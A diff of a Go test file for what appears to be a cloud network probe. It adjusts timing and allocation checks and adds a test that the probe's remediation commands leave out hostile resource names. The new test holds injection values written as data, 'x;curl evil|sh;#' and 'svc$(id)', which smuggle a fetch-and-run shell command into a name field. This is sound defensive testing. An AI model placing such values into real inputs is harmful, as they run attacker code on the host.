@@ -114,9 +114,11 @@ func TestProbeSurvivesHostileServer(t *testing.T) {
 			if elapsed > 12*time.Second {
 				t.Errorf("probe took %s, more than its 10s timeout", elapsed)
 			}
-			if grown := after.TotalAlloc - before.TotalAlloc; grown > 256<<20 {
+			grown := after.TotalAlloc - before.TotalAlloc
+			if grown > 256<<20 {
 				t.Errorf("probe allocated %d MiB", grown>>20)
 			}
+			t.Logf("%s in %s, %d KiB allocated", findings[2].Status+"/"+findings[3].Status, elapsed.Round(time.Millisecond), grown>>10)
 			if len(findings) != 5 {
 				t.Fatalf("%d findings, want 5", len(findings))
 			}
@@ -152,8 +154,8 @@ func TestProbeTimeoutBoundsRun(t *testing.T) {
 	if elapsed := time.Since(start); elapsed > 3*time.Second {
 		t.Errorf("probe took %s with a 500ms timeout", elapsed)
 	}
-	if len(findings) != 5 || findings[2].Status == checks.Pass {
-		t.Errorf("want probe.auth to fail on the silent server, got %+v", findings)
+	if len(findings) != 5 || findings[3].Status != checks.Error || CauseOf(findings[3]) != CauseCanceled {
+		t.Errorf("want probe.ping (the first command) to end in error when the run's timeout runs out, got %+v", findings)
 	}
 }
 
@@ -179,5 +181,28 @@ func readAll(conn net.Conn) ([]byte, error) {
 			}
 			return out, err
 		}
+	}
+}
+
+// TestProbeCommandsWithholdHostileNames: names from a hostile snapshot never reach the
+// probe's remediation commands, and the finding says why.
+func TestProbeCommandsWithholdHostileNames(t *testing.T) {
+	port := freePort(t) // nothing listens: the connection is refused, with remediation
+	findings := Run(context.Background(), Options{
+		Host: "127.0.0.1", Port: port, ConnectTimeout: time.Second, Timeout: 5 * time.Second,
+		Instance: &Instance{Name: "projects/p/locations/us-central1/instances/x;curl evil|sh;#", Port: 6379},
+		Service:  "projects/p/locations/us-central1/services/svc$(id)",
+	}, nil)
+	f := findings[0]
+	if f.Remediation == nil {
+		t.Fatalf("probe.tcp %s has no remediation: %s", f.Status, f.Message)
+	}
+	for _, c := range f.Remediation.Commands {
+		if strings.Contains(c, "curl") || strings.Contains(c, "$(") {
+			t.Errorf("command carries the hostile name: %s", c)
+		}
+	}
+	if !strings.Contains(f.Message, "is not a valid Google Cloud name") {
+		t.Errorf("message does not say a command was left out: %s", f.Message)
 	}
 }
